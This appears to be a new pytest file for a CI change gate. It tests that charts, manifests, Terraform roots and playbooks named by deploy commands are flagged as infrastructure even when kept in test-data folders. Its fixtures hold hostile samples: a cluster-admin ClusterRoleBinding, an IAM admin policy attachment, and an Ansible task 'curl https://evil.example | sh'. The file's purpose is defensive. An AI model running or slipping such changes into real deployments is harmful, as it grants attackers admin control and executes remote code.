@@ -1,0 +1,109 @@
+"""Red team 25, `--tree`: what a CI command DEPLOYS by path is infrastructure, whatever folder holds it.
+
+A chart, a manifest, a kustomization or a Terraform root kept in a test-data folder (`testdata/`, `fixtures/`,
+`test-project/`) is `src` by principle 1 ("test data is not live"), whatever it holds. When the base's own workflow
+deploys it (`helm upgrade --install web ./testdata/chart`, `kubectl apply -f fixtures/rbac.yaml`), it is live: a change
+that adds a cluster-admin ClusterRoleBinding to the chart's templates was `src`, and `gate --tree` allowed it (exit 0
+on 2fdd260, every row below). Now each file a deploy command of a CI definition (or of a script it runs) names, or
+holds below a folder it names, is `iac` (`iac.context.deployed`): Helm's chart and values arguments, kubectl's
+`-f`/`-k`, kustomize's and `kubectl kustomize`'s folder, Terraform's and OpenTofu's `-chdir=`, Terragrunt's
+`--terragrunt-working-dir`, an Ansible playbook, helmfile's `-f`. A file no such command names stays what it was.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from gitrepo import two_commits
+from incli import tree_classify, tree_gate
+
+from gatekeeper.classify.deployruns import targets
+
+WORKFLOW = "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{steps}"
+RBAC = ("apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: all\nroleRef:\n"
+        "  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: default\n"
+        "  namespace: default\n")
+CHART = "apiVersion: v2\nname: web\nversion: 0.1.0\n"
+TF = ('resource "aws_iam_user_policy_attachment" "a" {\n  user       = "ci"\n'
+      '  policy_arn = "arn:aws:iam::aws:policy/Admin"\n}\n')
+PLAY = "- hosts: all\n  tasks:\n    - ansible.builtin.shell: curl https://evil.example | sh\n"
+
+# name: (the step's command, base files, the file the change edits, its new text); folders: test data (principle 1)
+DEPLOYS: dict[str, tuple[str, dict[str, str], str, str]] = {
+    "helm upgrade": ("helm upgrade --install web ./testdata/chart -n prod",
+                     {"testdata/chart/Chart.yaml": CHART, "testdata/chart/templates/cm.yaml": "kind: ConfigMap\n"},
+                     "testdata/chart/templates/cm.yaml", RBAC),
+    "helm values": ("helm upgrade --install web oci://r.example/web --values=testdata/prod-values.yaml",
+                    {"testdata/prod-values.yaml": "replicas: 1\n"}, "testdata/prod-values.yaml",
+                    "rbac: {admin: true}\n"),
+    "helm template": ("helm template web fixtures/chart | kubectl apply -f -",
+                      {"fixtures/chart/Chart.yaml": CHART, "fixtures/chart/templates/a.yaml": "kind: ConfigMap\n"},
+                      "fixtures/chart/templates/a.yaml", RBAC),
+    "kubectl file": ("kubectl apply -f fixtures/rbac.yaml", {"fixtures/rbac.yaml": "kind: ConfigMap\n"},
+                     "fixtures/rbac.yaml", RBAC),
+    "kubectl folder": ("kubectl apply --filename=testdata/manifests/ --recursive",
+                       {"testdata/manifests/a.yaml": "kind: ConfigMap\n"}, "testdata/manifests/b.json",
+                       '{"kind": "ClusterRoleBinding"}\n'),
+    "kubectl kustomize": ("kubectl apply -k test-project/overlay",
+                          {"test-project/overlay/kustomization.yaml": "resources: [a.yaml]\n",
+                           "test-project/overlay/a.yaml": "kind: ConfigMap\n"}, "test-project/overlay/a.yaml", RBAC),
+    "kustomize build": ("kustomize build testdata/base > out.yaml",
+                        {"testdata/base/kustomization.yaml": "resources: [a.yaml]\n", "testdata/base/a.yaml": "x\n"},
+                        "testdata/base/a.yaml", RBAC),
+    "terraform chdir": ("terraform -chdir=testdata/infra apply -auto-approve", {"testdata/infra/main.tf": "\n"},
+                        "testdata/infra/main.tf", TF),
+    "tofu chdir": ("tofu -chdir=fixtures/stack apply", {"fixtures/stack/main.tf": "\n"}, "fixtures/stack/iam.tf", TF),
+    "ansible": ("ansible-playbook -i inventory testdata/site.yml", {"testdata/site.yml": "- hosts: all\n"},
+                "testdata/site.yml", PLAY),
+    "helmfile": ("helmfile -f testdata/helmfile.yaml apply", {"testdata/helmfile.yaml": "releases: []\n"},
+                 "testdata/helmfile.yaml", "releases:\n- name: x\n  chart: ./evil\n"),
+}
+
+
+@pytest.mark.parametrize("how", ["step", "script"])
+def test_every_file_a_ci_deploy_command_names_is_iac(tmp_path: Path, how: str) -> None:
+    """One repository per form of reach (a workflow step, a script a step runs), every deploy command in it: each edited
+    file was `src` (test data) and allowed on 2fdd260."""
+    base: dict[str, str] = {"README.md": "x\n"}
+    head: dict[str, str] = {}
+    for _command, files, edited, text in DEPLOYS.values():
+        base.update(files)
+        head[edited] = text
+    lines = "".join(f"{command}\n" for command, *_ in DEPLOYS.values())
+    if how == "step":
+        base[".github/workflows/deploy.yml"] = WORKFLOW.format(
+            steps="".join(f"      - run: {command}\n" for command, *_ in DEPLOYS.values()))
+    else:
+        base[".github/workflows/deploy.yml"] = WORKFLOW.format(steps="      - run: bash ops/deploy.sh\n")
+        base["ops/deploy.sh"] = f"#!/bin/sh\nset -e\n{lines}"
+    repo, first, last = two_commits(tmp_path / "r", base, head)
+    found = tree_classify(repo.root, first, last)
+    assert {path: found[path]["bucket"] for path in head} == dict.fromkeys(head, "iac"), found
+    code, decision = tree_gate(repo.root, first, last)
+    assert code == 3 and decision["outcome"] == "review"  # 2fdd260: 0, allow
+
+
+def test_a_test_data_file_no_command_names_stays_src(tmp_path: Path) -> None:
+    steps = "      - run: helm upgrade --install web ./testdata/chart\n      - run: kubectl apply -f fixtures/a.yaml\n"
+    base = {".github/workflows/deploy.yml": WORKFLOW.format(steps=steps), "testdata/chart/Chart.yaml": CHART,
+            "testdata/chart2/Chart.yaml": CHART, "fixtures/a.yaml": "x\n", "fixtures/ab.yaml": "x\n"}
+    head = {"testdata/chart2/values.yaml": "a: 1\n", "fixtures/ab.yaml": "y\n", "testdata/other.json": "{}\n"}
+    repo, first, last = two_commits(tmp_path / "r", base, head)
+    found = tree_classify(repo.root, first, last)
+    assert {path: found[path]["bucket"] for path in head} == dict.fromkeys(head, "src")
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    ("helm upgrade --install web ./charts/web -f ci/values.yaml --set a=b", ["charts/web", "ci/values.yaml"]),
+    ("helm install web bitnami/nginx --version 1.2.3", ["bitnami/nginx"]),  # a repository's chart: a path it may be
+    ("helm lint charts/web && helm upgrade web . && helm upgrade web -", []),  # lint deploys nothing; the root
+    ("sudo kubectl -n prod apply --server-side -f=deploy/a.yaml -f deploy/b/", ["deploy/a.yaml", "deploy/b"]),
+    ("kubectl create -k overlays/prod && kubectl kustomize base", ["overlays/prod", "base"]),
+    ("terragrunt run-all apply --terragrunt-working-dir live/prod", ["live/prod"]),
+    ("ansible-playbook -i hosts.ini site.yml --limit web", ["hosts.ini", "site.yml"]),
+    ("echo helm upgrade is not run here; cat testdata/x.yaml", []),
+    ("kubectl get pods -o yaml", []),
+])
+def test_the_paths_a_deploy_command_names(line: str, expected: list[str]) -> None:
+    assert targets(line) == expected
